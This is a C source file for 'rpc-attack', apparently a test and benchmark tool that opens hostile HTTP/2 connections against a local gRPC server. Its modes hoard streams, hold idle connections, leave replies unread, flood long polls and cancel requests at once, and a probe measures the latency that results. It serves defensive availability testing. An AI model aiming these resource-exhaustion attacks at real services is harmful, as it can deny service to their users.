/*
 * rpc-attack: hostile HTTP/2 peers for the availability tests and
 * bench/attacks (issue 14, items 4-8), written with nghttp2's client API
 * over OpenSSL so every frame is ours to choose, plus a latency probe that
 * is an ordinary client of our RPC layer.
 *
 *   rpc-attack hoard  --port P [--connections C] [--streams S] [--announce N]
 *                     [--send N] [--hold-ms MS]
 *       per stream: HEADERS for Echo/Say, DATA whose prefix announces N
 *       bytes, then --send bytes respecting flow control, never END_STREAM.
 *       --path METHOD attacks another method (a real service's).
 *   rpc-attack idle   --port P [--connections C] [--hold-ms MS] [--raw]
 *                     [--source 127.0.0.X]
 *       connections that complete TLS and the HTTP/2 preface (or, --raw,
 *       only TCP) and then send nothing.
 *   rpc-attack unread --port P [--connections C] [--streams S] [--reply N]
 *                     [--hold-ms MS]
 *       a receive window of 0, then S Echo calls asking for N reply bytes
 *       each, never read.
 *   rpc-attack hold   --port P [--connections C] [--streams S] [--sleep-ms MS]
 *                     [--hold-ms MS]
 *       long polls (item 7): S Echo calls per connection that each wait
 *       --sleep-ms on the server, all at once; answers are read.
 *       --get-task ID calls TeaclaveFrontend/GetTask for task ID instead,
 *       with the request metadata of --meta KEY=VALUE (repeatable: id,
 *       token, steep-wait-ms), against a real platform's frontend.
 *   rpc-attack cancel --port P [--connections C] [--streams S] [--sleep-ms MS]
 *       work nobody waits for (item 8): per stream HEADERS + the whole
 *       request (an Echo call sleeping --sleep-ms, message "cancel-me"),
 *       then RST_STREAM CANCEL; each connection's frames go out in one
 *       write, as a client cancelling at once would send them.
 *   rpc-attack probe  --port P [--calls N]
 *       N sequential small Echo calls; prints p50/p99 in ms and failures.
 *
 * Each attack holds its connections for --hold-ms (with --until-answered,
 * only until every stream has closed), pumping I/O, then prints one
 * line of key=value counters: streams opened, streams closed, streams the
 * server reset (RST_STREAM received) or answered (response HEADERS),
 * connections the server closed, bytes sent, and the ms the attack ran.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <nghttp2/nghttp2.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "core/log.h"
#include "rpc/internal.h"
#include "support.h"

enum mode { HOARD, IDLE, UNREAD, HOLD, CANCEL };

struct options {
    enum mode mode;
    int port, connections, streams, hold_ms, calls, sleep_ms;
    size_t announce, send, reply;
    bool raw, until_answered;
    const char *source; /* local address to connect from (127.0.0.x) */
    const char *path;   /* :path of the attacked method */
    const char *get_task;
    const char *meta[8]; /* "key=value" */
    int n_meta;
};

struct counters {
    long opened, closed, reset, answered, conns_closed;
    long status_ok, status_exhausted; /* grpc-status 0 and 8 received */
    size_t sent;
};

struct stream {
    const struct options *options;
    size_t sent; /* body bytes given to nghttp2 */
    uint8_t *request;
    size_t request_len;
};

struct peer {
    int fd;
    SSL *ssl;
    nghttp2_session *session;
    bool dead;
    struct stream *streams;
};

static struct counters counters;
/* cancel mode: frames are collected here and written at once */
static bool corking;
static struct steep_buf cork = STEEP_BUF_INIT;

static int64_t now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static ssize_t send_cb(nghttp2_session *session, const uint8_t *data, size_t length, int flags,
                       void *user_data)
{
    struct peer *peer = user_data;
    if (corking)
        return steep_buf_append(&cork, data, length) < 0 ? NGHTTP2_ERR_CALLBACK_FAILURE
                                                         : (ssize_t)length;
    ERR_clear_error();
    int n = SSL_write(peer->ssl, data, (int)length);
    if (n > 0) {
        counters.sent += (size_t)n;
        return n;
    }
    int error = SSL_get_error(peer->ssl, n);
    if (error == SSL_ERROR_WANT_WRITE || error == SSL_ERROR_WANT_READ)
        return NGHTTP2_ERR_WOULDBLOCK;
    return NGHTTP2_ERR_CALLBACK_FAILURE;
}

static int on_stream_close(nghttp2_session *session, int32_t stream_id, uint32_t error_code,
                           void *user_data)
{
    counters.closed++;
    return 0;
}

static int on_header(nghttp2_session *session, const nghttp2_frame *frame, const uint8_t *name,
                     size_t name_len, const uint8_t *value, size_t value_len, uint8_t flags,
                     void *user_data)
{
    if (name_len == 11 && memcmp(name, "grpc-status", 11) == 0 && value_len == 1) {
        if (value[0] == '0')
            counters.status_ok++;
        else if (value[0] == '8')
            counters.status_exhausted++;
    }
    return 0;
}

static int on_frame_recv(nghttp2_session *session, const nghttp2_frame *frame, void *user_data)
{
    if (frame->hd.type == NGHTTP2_HEADERS && frame->headers.cat == NGHTTP2_HCAT_RESPONSE)
        counters.answered++;
    if (frame->hd.type == NGHTTP2_RST_STREAM)
        counters.reset++;
    return 0;
}

/* Hoarding body: the prefix announcing --announce bytes, then zeros up to
 * --send, then nothing more, ever (deferred, no END_STREAM). */
static ssize_t hoard_body(nghttp2_session *session, int32_t stream_id, uint8_t *buf, size_t length,
                          uint32_t *flags, nghttp2_data_source *source, void *user_data)
{
    struct stream *stream = source->ptr;
    size_t total = STEEP_RPC_FRAME_PREFIX + stream->options->send;
    if (stream->sent >= total)
        return NGHTTP2_ERR_DEFERRED;
    size_t n = total - stream->sent < length ? total - stream->sent : length;
    memset(buf, 0, n);
    for (size_t i = 0; i < n; i++) {
        size_t at = stream->sent + i;
        if (at >= 1 && at < STEEP_RPC_FRAME_PREFIX)
            buf[i] = (uint8_t)(stream->options->announce >> (8 * (4 - at)));
    }
    stream->sent += n;
    return (ssize_t)n;
}

/* A whole request (unread mode), then END_STREAM. */
static ssize_t whole_body(nghttp2_session *session, int32_t stream_id, uint8_t *buf, size_t length,
                          uint32_t *flags, nghttp2_data_source *source, void *user_data)
{
    struct stream *stream = source->ptr;
    size_t n =
        steep_rpc_copy_out(&(struct steep_buf){.data = stream->request, .len = stream->request_len},
                           &stream->sent, buf, length);
    if (stream->sent == stream->request_len)
        *flags |= NGHTTP2_DATA_FLAG_EOF;
    return (ssize_t)n;
}

static int tcp_connect(int port, const char *source)
{
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in addr = {.sin_family = AF_INET,
                               .sin_port = htons((uint16_t)port),
                               .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    struct sockaddr_in local = {.sin_family = AF_INET};
    if (fd >= 0 && source && inet_pton(AF_INET, source, &local.sin_addr) == 1 &&
        bind(fd, (struct sockaddr *)&local, sizeof(local)) < 0) {
        close(fd);
        return -1;
    }
    if (fd < 0 || connect(fd, (struct sockaddr *)&addr, sizeof(addr)) < 0) {
        if (fd >= 0)
            close(fd);
        return -1;
    }
    int one = 1;
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
    return fd;
}

static SSL_CTX *client_context(void)
{
    SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
    static const unsigned char alpn[] = {2, 'h', '2'};
    SSL_CTX_set_alpn_protos(ctx, alpn, sizeof(alpn));
    SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, NULL);
    SSL_CTX_set_mode(ctx, SSL_MODE_ENABLE_PARTIAL_WRITE | SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
    return ctx;
}

static int open_peer(struct peer *peer, SSL_CTX *ctx, nghttp2_session_callbacks *callbacks,
                     const struct options *options)
{
    memset(peer, 0, sizeof(*peer));
    peer->fd = tcp_connect(options->port, options->source);
    if (peer->fd < 0)
        return -1;
    if (options->raw)
        return 0;
    peer->ssl = SSL_new(ctx);
    SSL_set_fd(peer->ssl, peer->fd);
    SSL_set_tlsext_host_name(peer->ssl, "localhost");
    if (SSL_connect(peer->ssl) != 1)
        return -1;
    nghttp2_option *option;
    nghttp2_option_new(&option);
    if (options->mode == UNREAD)
        nghttp2_option_set_no_auto_window_update(option, 1);
    nghttp2_session_client_new2(&peer->session, callbacks, peer, option);
    nghttp2_option_del(option);
    nghttp2_settings_entry settings[] = {
        {NGHTTP2_SETTINGS_INITIAL_WINDOW_SIZE, options->mode == UNREAD ? 0 : 1 << 20}};
    nghttp2_submit_settings(peer->session, NGHTTP2_FLAG_NONE, settings, 1);
    fcntl(peer->fd, F_SETFL, fcntl(peer->fd, F_GETFL) | O_NONBLOCK);
    return 0;
}

static void peer_close(struct peer *peer)
{
    if (peer->session)
        nghttp2_session_del(peer->session);
    if (peer->ssl)
        SSL_free(peer->ssl);
    if (peer->fd >= 0)
        close(peer->fd);
    peer->session = NULL;
    peer->ssl = NULL;
    peer->fd = -1;
}

/* The EchoRequest of the unread, hold and cancel modes, framed. */
static int whole_request(const struct options *options, struct steep_buf *out)
{
    SteepTest__EchoRequest request = STEEP_TEST__ECHO_REQUEST__INIT;
    if (options->mode == UNREAD) {
        request.message = "never read";
        request.payload_size = (int32_t)options->reply;
    } else if (options->get_task) { /* GetTaskRequest: field 1, task_id */
        size_t length = strlen(options->get_task);
        uint8_t prefix[STEEP_RPC_FRAME_PREFIX + 2] = {0};
        if (length > 127)
            return -1;
        uint32_t message = (uint32_t)(2 + length);
        for (int i = 0; i < 4; i++)
            prefix[1 + i] = (uint8_t)(message >> (8 * (3 - i)));
        prefix[5] = 0x0a;
        prefix[6] = (uint8_t)length;
        if (steep_buf_append(out, prefix, sizeof prefix) < 0)
            return -1;
        return steep_buf_append(out, options->get_task, length);
    } else {
        request.message = options->mode == HOLD ? "hold" : "cancel-me";
        request.sleep_ms = options->sleep_ms;
    }
    return steep_rpc_frame_encode(&request.base, out);
}

/* Writes the corked frames of a cancel-mode peer in as few writes as TLS
 * allows (its records are at most 16 KiB). */
static void uncork(struct peer *peer)
{
    size_t at = 0;
    while (at < cork.len) {
        ERR_clear_error();
        int n = SSL_write(peer->ssl, cork.data + at, (int)(cork.len - at));
        if (n > 0) {
            counters.sent += (size_t)n;
            at += (size_t)n;
            continue;
        }
        int error = SSL_get_error(peer->ssl, n);
        if (error != SSL_ERROR_WANT_WRITE && error != SSL_ERROR_WANT_READ)
            break;
        struct pollfd out = {.fd = peer->fd, .events = POLLOUT};
        poll(&out, 1, 100);
    }
    cork.len = 0;
}

static void submit_streams(struct peer *peer, const struct options *options,
                           const struct steep_buf *request)
{
    nghttp2_nv headers[] = {
#define H(n, v) {(uint8_t *)(n), (uint8_t *)(v), sizeof(n) - 1, sizeof(v) - 1, NGHTTP2_NV_FLAG_NONE}
        H(":method", "POST"),
        H(":scheme", "https"),
        H(":path", ECHO_SAY),
        H(":authority", "localhost"),
        H("content-type", "application/grpc"),
        H("te", "trailers"),
#undef H
    };
    if (options->get_task) {
        static const char get_task[] = "/teaclave_frontend_service_proto.TeaclaveFrontend/GetTask";
        headers[2].value = (uint8_t *)get_task;
        headers[2].valuelen = sizeof(get_task) - 1;
    }
    if (options->path) { /* another method (a real service's) */
        headers[2].value = (uint8_t *)options->path;
        headers[2].valuelen = strlen(options->path);
    }
    nghttp2_nv nv[6 + 8];
    memcpy(nv, headers, sizeof(headers));
    size_t n_nv = 6;
    for (int i = 0; i < options->n_meta; i++) {
        const char *equals = strchr(options->meta[i], '=');
        if (!equals)
            continue;
        nv[n_nv++] = (nghttp2_nv){(uint8_t *)options->meta[i], (uint8_t *)equals + 1,
                                  (size_t)(equals - options->meta[i]), strlen(equals + 1),
                                  NGHTTP2_NV_FLAG_NONE};
    }
    peer->streams = calloc((size_t)options->streams, sizeof(*peer->streams));
    for (int i = 0; i < options->streams; i++) {
        struct stream *stream = &peer->streams[i];
        stream->options = options;
        stream->request = request->data;
        stream->request_len = request->len;
        nghttp2_data_provider provider = {.source.ptr = stream,
                                          .read_callback =
                                              options->mode == HOARD ? hoard_body : whole_body};
        int32_t id = nghttp2_submit_request(peer->session, NULL, nv, n_nv, &provider, stream);
        if (id <= 0)
            continue;
        counters.opened++;
        if (options->mode == CANCEL) { /* the request whole, then at once the reset */
            nghttp2_session_send(peer->session);
            nghttp2_submit_rst_stream(peer->session, NGHTTP2_FLAG_NONE, id, NGHTTP2_CANCEL);
            nghttp2_session_send(peer->session);
        }
    }
}

/* One round of I/O on a peer: read what is there, write what nghttp2 has. */
static void pump(struct peer *peer)
{
    if (peer->dead || peer->fd < 0)
        return;
    uint8_t buf[16384];
    if (!peer->ssl) { /* raw TCP: only notice the close */
        ssize_t n = recv(peer->fd, buf, sizeof(buf), MSG_DONTWAIT);
        if (n == 0 || (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK)) {
            peer->dead = true;
            counters.conns_closed++;
        }
        return;
    }
    for (;;) {
        ERR_clear_error();
        int n = SSL_read(peer->ssl, buf, sizeof(buf));
        if (n > 0) {
            if (nghttp2_session_mem_recv(peer->session, buf, (size_t)n) < 0)
                goto dead;
            continue;
        }
        int error = SSL_get_error(peer->ssl, n);
        if (error == SSL_ERROR_WANT_READ || error == SSL_ERROR_WANT_WRITE)
            break;
        goto dead;
    }
    /* resume hoarding streams whose window opened (they stay deferred once
     * their bytes are sent) */
    for (int i = 0; peer->streams && i < peer->streams[0].options->streams; i++)
        nghttp2_session_resume_data(peer->session, 2 * i + 1);
    if (nghttp2_session_send(peer->session) != 0)
        goto dead;
    if (!nghttp2_session_want_read(peer->session) && !nghttp2_session_want_write(peer->session))
        goto dead;
    return;
dead:
    peer->dead = true;
    counters.conns_closed++;
}

static int attack(const struct options *options)
{
    SSL_CTX *ctx = client_context();
    nghttp2_session_callbacks *callbacks;
    nghttp2_session_callbacks_new(&callbacks);
    nghttp2_session_callbacks_set_send_callback(callbacks, send_cb);
    nghttp2_session_callbacks_set_on_stream_close_callback(callbacks, on_stream_close);
    nghttp2_session_callbacks_set_on_frame_recv_callback(callbacks, on_frame_recv);
    nghttp2_session_callbacks_set_on_header_callback(callbacks, on_header);
    struct steep_buf request = STEEP_BUF_INIT;
    if (options->mode != HOARD && options->mode != IDLE && whole_request(options, &request) < 0)
        return 1;
    struct peer *peers = calloc((size_t)options->connections, sizeof(*peers));
    int opened = 0;
    for (int i = 0; i < options->connections; i++) {
        if (open_peer(&peers[i], ctx, callbacks, options) < 0) {
            peer_close(&peers[i]);
            peers[i].dead = true;
            continue;
        }
        opened++;
        corking = options->mode == CANCEL;
        if (options->mode != IDLE)
            submit_streams(&peers[i], options, &request);
        if (corking) {
            corking = false;
            uncork(&peers[i]);
        }
        pump(&peers[i]);
    }
    struct pollfd *fds = calloc((size_t)options->connections, sizeof(*fds));
    int64_t start = now_ms(), end = start + options->hold_ms;
    long streams = (long)options->connections * options->streams;
    for (int64_t now = now_ms(); now < end; now = now_ms()) {
        if (options->until_answered && counters.closed >= streams)
            break;
        for (int i = 0; i < options->connections; i++) {
            fds[i].fd = peers[i].dead ? -1 : peers[i].fd;
            fds[i].events = POLLIN;
            if (peers[i].session && nghttp2_session_want_write(peers[i].session))
                fds[i].events |= POLLOUT;
        }
        int64_t left = end - now;
        poll(fds, (nfds_t)options->connections, left < 200 ? (int)left : 200);
        for (int i = 0; i < options->connections; i++)
            if (fds[i].revents)
                pump(&peers[i]);
    }
    printf("connections=%d opened=%ld closed=%ld reset=%ld answered=%ld conns_closed=%ld "
           "sent=%zu ok=%ld exhausted=%ld ran_ms=%lld\n",
           opened, counters.opened, counters.closed, counters.reset, counters.answered,
           counters.conns_closed, counters.sent, counters.status_ok, counters.status_exhausted,
           (long long)(now_ms() - start));
    fflush(stdout);
    for (int i = 0; i < options->connections; i++) {
        peer_close(&peers[i]);
        free(peers[i].streams);
    }
    free(peers);
    free(fds);
    steep_buf_free(&request);
    steep_buf_free(&cork);
    nghttp2_session_callbacks_del(callbacks);
    SSL_CTX_free(ctx);
    return 0;
}

static int compare_ms(const void *a, const void *b)
{
    double x = *(const double *)a, y = *(const double *)b;
    return x < y ? -1 : x > y;
}

/* Sequential small calls on one client; p50/p99 of the successful ones. */
static int probe(const struct options *options)
{
    char address[32];
    snprintf(address, sizeof(address), "127.0.0.1:%d", options->port);
    struct steep_rpc_client *client = steep_rpc_client_new(
        &(struct steep_rpc_client_config){.address = address, .server_name = "localhost"});
    if (!client)
        return 1;
    double *ms = calloc((size_t)options->calls, sizeof(*ms));
    int ok = 0, failed = 0;
    char last_error[600] = "";
    for (int i = 0; i < options->calls; i++) {
        SteepTest__EchoRequest request = STEEP_TEST__ECHO_REQUEST__INIT;
        request.message = "probe";
        SteepTest__EchoReply *reply = NULL;
        struct steep_rpc_status status;
        struct timespec a, b;
        clock_gettime(CLOCK_MONOTONIC, &a);
        int rc =
            steep_rpc_call(client, ECHO_SAY, &request.base, &steep_test__echo_reply__descriptor,
                           (ProtobufCMessage **)&reply, NULL, 0, 10000, &status);
        clock_gettime(CLOCK_MONOTONIC, &b);
        if (rc == 0 && strcmp(reply->message, "probe") == 0) {
            ms[ok++] = (double)(b.tv_sec - a.tv_sec) * 1e3 + (double)(b.tv_nsec - a.tv_nsec) / 1e6;
        } else {
            failed++;
            snprintf(last_error, sizeof(last_error), "%s %s", steep_grpc_code_name(status.code),
                     status.message);
        }
        if (reply)
            protobuf_c_message_free_unpacked(&reply->base, NULL);
    }
    qsort(ms, (size_t)ok, sizeof(*ms), compare_ms);
    printf("calls=%d ok=%d failed=%d p50_ms=%.3f p99_ms=%.3f", options->calls, ok, failed,
           ok ? ms[ok / 2] : -1.0, ok ? ms[(ok * 99) / 100] : -1.0);
    if (failed)
        printf(" last_error=\"%s\"", last_error);
    printf("\n");
    free(ms);
    steep_rpc_client_free(client);
    return failed ? 1 : 0;
}

int main(int argc, char **argv)
{
    steep_log_init("rpc-attack");
    steep_log_set_level(STEEP_LOG_ERROR);
    signal(SIGPIPE, SIG_IGN);
    struct options options = {.connections = 1,
                              .streams = 1,
                              .announce = 4u << 20,
                              .send = 1u << 20,
                              .reply = 2u << 20,
                              .hold_ms = 1000,
                              .calls = 200};
    if (argc < 2) {
        fprintf(stderr,
                "usage: rpc-attack hoard|idle|unread|hold|cancel|probe --port P [options]\n");
        return 2;
    }
    const char *mode = argv[1];
    for (int i = 2; i < argc; i++) {
        const char *value = i + 1 < argc ? argv[i + 1] : NULL;
        if (!strcmp(argv[i], "--raw")) {
            options.raw = true;
            continue;
        }
        if (!strcmp(argv[i], "--until-answered")) {
            options.until_answered = true;
            continue;
        }
        if (!value) {
            fprintf(stderr, "rpc-attack: %s needs a value\n", argv[i]);
            return 2;
        }
        long long number = strtoll(value, NULL, 10);
        i++;
        if (!strcmp(argv[i - 1], "--source")) {
            options.source = value;
            continue;
        }
        if (!strcmp(argv[i - 1], "--path")) {
            options.path = value;
            continue;
        }
        if (!strcmp(argv[i - 1], "--get-task")) {
            options.get_task = value;
            continue;
        }
        if (!strcmp(argv[i - 1], "--meta") && options.n_meta < 8) {
            options.meta[options.n_meta++] = value;
            continue;
        }
        if (!strcmp(argv[i - 1], "--port"))
            options.port = (int)number;
        else if (!strcmp(argv[i - 1], "--connections"))
            options.connections = (int)number;
        else if (!strcmp(argv[i - 1], "--streams"))
            options.streams = (int)number;
        else if (!strcmp(argv[i - 1], "--announce"))
            options.announce = (size_t)number;
        else if (!strcmp(argv[i - 1], "--send"))
            options.send = (size_t)number;
        else if (!strcmp(argv[i - 1], "--reply"))
            options.reply = (size_t)number;
        else if (!strcmp(argv[i - 1], "--hold-ms"))
            options.hold_ms = (int)number;
        else if (!strcmp(argv[i - 1], "--calls"))
            options.calls = (int)number;
        else if (!strcmp(argv[i - 1], "--sleep-ms"))
            options.sleep_ms = (int)number;
        else {
            fprintf(stderr, "rpc-attack: bad argument %s\n", argv[i - 1]);
            return 2;
        }
    }
    if (options.port <= 0 || options.connections <= 0 || options.streams <= 0 ||
        options.calls <= 0) {
        fprintf(stderr, "rpc-attack: --port and positive counts are required\n");
        return 2;
    }
    if (!strcmp(mode, "probe"))
        return probe(&options);
    if (!strcmp(mode, "hoard"))
        options.mode = HOARD;
    else if (!strcmp(mode, "idle"))
        options.mode = IDLE;
    else if (!strcmp(mode, "unread"))
        options.mode = UNREAD;
    else if (!strcmp(mode, "hold"))
        options.mode = HOLD;
    else if (!strcmp(mode, "cancel"))
        options.mode = CANCEL;
    else {
        fprintf(stderr, "rpc-attack: unknown mode %s\n", mode);
        return 2;
    }
    return attack(&options);
}
